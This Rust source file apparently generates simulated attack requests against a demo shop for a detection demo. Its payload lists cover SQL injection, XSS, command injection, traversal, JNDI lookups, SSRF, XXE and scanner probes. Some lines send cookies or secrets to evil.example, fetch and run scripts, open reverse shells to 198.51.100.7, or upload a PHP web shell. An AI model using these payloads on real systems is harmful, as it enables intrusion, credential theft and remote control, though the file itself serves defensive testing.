//! What the attackers send: ordinary textbook attacks against the places where the shop takes input.
//!
//! Every payload is written for this demo. None of them would do anything to the demo shop.

use crate::message::{Message, form, percent, query};
use crate::random::Random;
use crate::tally::Kind;

/// One attack of the given kind, in one of the places where it can occur.
pub(crate) fn attack(kind: Kind, random: &mut Random) -> Message {
    let message = match kind {
        Kind::Sql => parameter(&mixed_case(random.pick(SQL), random), random),
        Kind::Script => parameter(&mixed_case(random.pick(SCRIPT), random), random),
        Kind::Traversal => traversal(random),
        Kind::Command => parameter(random.pick(COMMAND), random),
        Kind::Lookup => lookup(random),
        Kind::Forgery => forgery(random),
        Kind::Entity => Message::xml("/api/stock", random.pick(ENTITY).as_bytes()),
        Kind::Scanner => probe(random.next() as usize),
        // Customers do not attack; the match is total so that a new kind cannot be forgotten.
        Kind::Customer => Message::get("/"),
    };
    dress(message, random)
}

const SQL: &[&str] = &[
    "1' OR '1'='1",
    "' OR 1=1 -- -",
    "admin'--",
    "1' UNION SELECT username, password FROM users-- -",
    "-1 UNION ALL SELECT NULL,NULL,version()--",
    "1; DROP TABLE orders;--",
    "x' AND SLEEP(5)-- -",
    "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0-- -",
    "rod' AND 1=CONVERT(int,(SELECT @@version))--",
    "') OR ('a'='a",
    "1 OR pg_sleep(10)--",
    "knife'/**/UNION/**/SELECT/**/1,2,group_concat(table_name)/**/FROM/**/information_schema.tables#",
    "hat' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT user())))-- -",
    "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
    "1'; EXEC xp_cmdshell('whoami');--",
    "' UNION SELECT '<?php system($_GET[0]);?>' INTO OUTFILE '/var/www/s.php'-- -",
];

const SCRIPT: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(document.domain)>",
    "'-alert(1)-'",
    "javascript:alert(document.cookie)",
    "<body onload=fetch('//evil.example/'+document.cookie)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"jAvAsCrIpT:alert(1)\">win a rod</a>",
    "\" onmouseover=\"alert(1)",
    "<details open ontoggle=eval(atob('YWxlcnQoMSk='))>",
    "<scr<script>ipt>document.location='//evil.example/?c='+document.cookie</scr</script>ipt>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<input autofocus onfocus=alert(String.fromCharCode(88,83,83))>",
];

const COMMAND: &[&str] = &[
    "; cat /etc/passwd",
    "| id",
    "`whoami`",
    "$(curl http://evil.example/x.sh | sh)",
    "&& wget http://evil.example/m -O /tmp/m && chmod +x /tmp/m && /tmp/m",
    "; nc -e /bin/sh 198.51.100.7 4444",
    "|| ping -c 10 198.51.100.7",
    "\nuname -a; ls -la /",
    "& type C:\\Windows\\win.ini",
    "; bash -i >& /dev/tcp/198.51.100.7/443 0>&1",
    "a;python3 -c 'import os;os.system(\"id\")'",
    "$(cat${IFS}/etc/shadow)",
];

const FILES: &[&str] = &[
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/passwd",
    "/etc/shadow",
    "../../../../proc/self/environ",
    "file:///etc/passwd",
    "php://filter/convert.base64-encode/resource=index.php",
    "../../.env",
    "../../../../etc/passwd\0.pdf",
    "../../../../var/log/apache2/access.log",
];

/// Already encoded: they are sent as they stand, in the path.
const PATHS: &[&str] = &[
    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/static/..%252f..%252f..%252fetc%252fpasswd",
    "/static/..%c0%af..%c0%af..%c0%afetc/passwd",
    "/download/..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
];

const LOOKUP: &[&str] = &[
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/b}",
    "${jndi:rmi://198.51.100.7:1099/Exploit}",
    "${${::-j}${::-n}${::-d}${::-i}:dns://evil.example/c}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/d}",
];

const FORGERY: &[&str] = &[
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://127.0.0.1:6379/",
    "gopher://127.0.0.1:6379/_FLUSHALL%0d%0aSET%20x%201",
    "http://localhost:8500/v1/kv/?recurse",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "dict://127.0.0.1:11211/stat",
    "http://[::ffff:169.254.169.254]/latest/user-data",
    "http://0x7f000001:9200/_cat/indices",
    "file:///proc/self/environ",
];

const ENTITY: &[&str] = &[
    "<?xml version=\"1.0\"?><!DOCTYPE stock [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><stock><item>&x;</item></stock>",
    "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/e.dtd\"> %p;]><stock/>",
    "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;\">]><stock><item>&c;</item></stock>",
    "<?xml version=\"1.0\"?><!DOCTYPE s [<!ENTITY x SYSTEM \"php://filter/read=convert.base64-encode/resource=/etc/hosts\">]><stock>&x;</stock>",
    "<stock xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></stock>",
    "<?xml version=\"1.0\"?><!DOCTYPE s [<!ENTITY x SYSTEM \"expect://id\">]><stock><item>&x;</item></stock>",
];

/// What a scanner asks for, one after the other: forgotten files, consoles, then a few blunt injections.
const PROBES: &[&str] = &[
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/wp-login.php",
    "/wp-admin/setup-config.php",
    "/phpmyadmin/index.php",
    "/admin/",
    "/administrator/",
    "/manager/html",
    "/server-status",
    "/backup.zip",
    "/backup.sql",
    "/db.sql.gz",
    "/config.php.bak",
    "/web.config",
    "/.htpasswd",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/actuator/env",
    "/actuator/heapdump",
    "/console/",
    "/solr/admin/info/system",
    "/cgi-bin/test.cgi",
    "/xmlrpc.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/api/v1/pods",
    "/debug/pprof/",
    "/swagger-ui.html",
    "/.svn/entries",
    "/.DS_Store",
    "/install.php",
    "/test.php",
    "/info.php",
    "/shell.php",
    "/cmd.jsp",
    "/owa/auth/logon.aspx",
    "/autodiscover/autodiscover.xml",
    "/remote/login",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/robots.txt",
    "/sitemap.xml",
    "/search?q=%27",
    "/search?q=1%27%20AND%201%3D1--%20",
    "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "/download?file=..%2F..%2F..%2Fetc%2Fpasswd",
    "/products/1%20OR%201%3D1",
    "/?cmd=cat%20%2Fetc%2Fpasswd",
    "/index.php?page=http%3A%2F%2Fevil.example%2Fshell.txt%3F",
    "/api/products?category=%24%7B7*7%7D",
];

const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
];

/// The payload in a query, a form, a JSON leaf, or (rarely) a cookie.
fn parameter(payload: &str, random: &mut Random) -> Message {
    let payload = &vary(payload, random);
    match random.between(0, 10) {
        0..=2 => Message::get(format!("/search?q={}", percent(payload))),
        3 => Message::get(format!(
            "/api/products?{}",
            query(&[("category", payload), ("page", "1")])
        )),
        4 => Message::form("/login", &[("username", payload), ("password", "x")]),
        5 => Message::form(
            "/checkout",
            &[
                ("name", "John Smith"),
                ("street", "Main St 1"),
                ("zip", "20095"),
                ("city", "Hamburg"),
                ("note", payload),
            ],
        ),
        6 => Message::form("/cart", &[("product", payload), ("quantity", "1")]),
        7 => Message::json(
            "/api/reviews",
            &serde_json::json!({"product": "rod-210", "stars": 5, "author": "John Smith", "text": payload}),
        ),
        8 => Message::json(
            "/api/cart",
            &serde_json::json!({"items": [{"id": payload, "quantity": 1}], "currency": "EUR"}),
        ),
        // Twice encoded, for a filter that decodes once.
        _ => Message::get(format!(
            "/search?q={}&sort=price",
            percent(&percent(payload))
        )),
    }
}

/// What an attacker changes to slip past a pattern.
fn vary(payload: &str, random: &mut Random) -> String {
    match random.between(0, 6) {
        0 => format!("rod-270{payload}"),
        1 => payload.replace(' ', "\t"),
        _ => payload.to_owned(),
    }
}

/// SQL keywords and HTML tags work in any case; shell commands and paths do not.
fn mixed_case(payload: &str, random: &mut Random) -> String {
    if !random.one_in(5) {
        return payload.to_owned();
    }
    payload
        .chars()
        .enumerate()
        .map(|(at, letter)| {
            if at % 2 == 0 {
                letter.to_ascii_uppercase()
            } else {
                letter.to_ascii_lowercase()
            }
        })
        .collect()
}

fn traversal(random: &mut Random) -> Message {
    match random.between(0, 8) {
        0..=2 => Message::get(random.pick(PATHS)),
        3 => Message::upload(
            "/upload",
            "----WebKitFormBoundary7MA4YWxkTrZu0gW",
            "hi",
            "../../../var/www/html/shell.php",
            "image/png",
            b"<?php system($_GET['c']); ?>",
        ),
        _ => Message::get(format!("/download?file={}", form(random.pick(FILES)))),
    }
}

fn lookup(random: &mut Random) -> Message {
    let payload = random.pick(LOOKUP);
    match random.between(0, 4) {
        0 => Message::get("/").with("user-agent", payload),
        1 => Message::get("/account").with("referer", payload),
        2 => Message::get("/").with("x-api-version", payload),
        _ => Message::get(format!("/search?q={}", percent(payload))),
    }
}

fn forgery(random: &mut Random) -> Message {
    let payload = random.pick(FORGERY);
    Message::get(format!("/api/preview?url={}", percent(payload)))
}

/// The scanner's `step`-th request.
pub(crate) fn probe(step: usize) -> Message {
    let path = PROBES.get(step % PROBES.len()).copied().unwrap_or("/");
    Message::get(path)
        .with(
            "user-agent",
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
        )
        .with("accept", "*/*")
}

pub(crate) const fn probes() -> usize {
    PROBES.len()
}

/// Attackers send a browser's headers too: otherwise the headers alone would give them away.
fn dress(message: Message, random: &mut Random) -> Message {
    let known = |name: &str| message.headers.iter().any(|(header, _)| *header == name);
    let (agent, accept) = (known("user-agent"), known("accept"));
    let mut message = message;
    if !agent {
        message = message.with("user-agent", random.pick(AGENTS));
    }
    if !accept {
        message = message
            .with(
                "accept",
                "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
            )
            .with("accept-language", "en-US,en;q=0.5")
            .with("accept-encoding", "gzip, deflate");
    }
    message
}
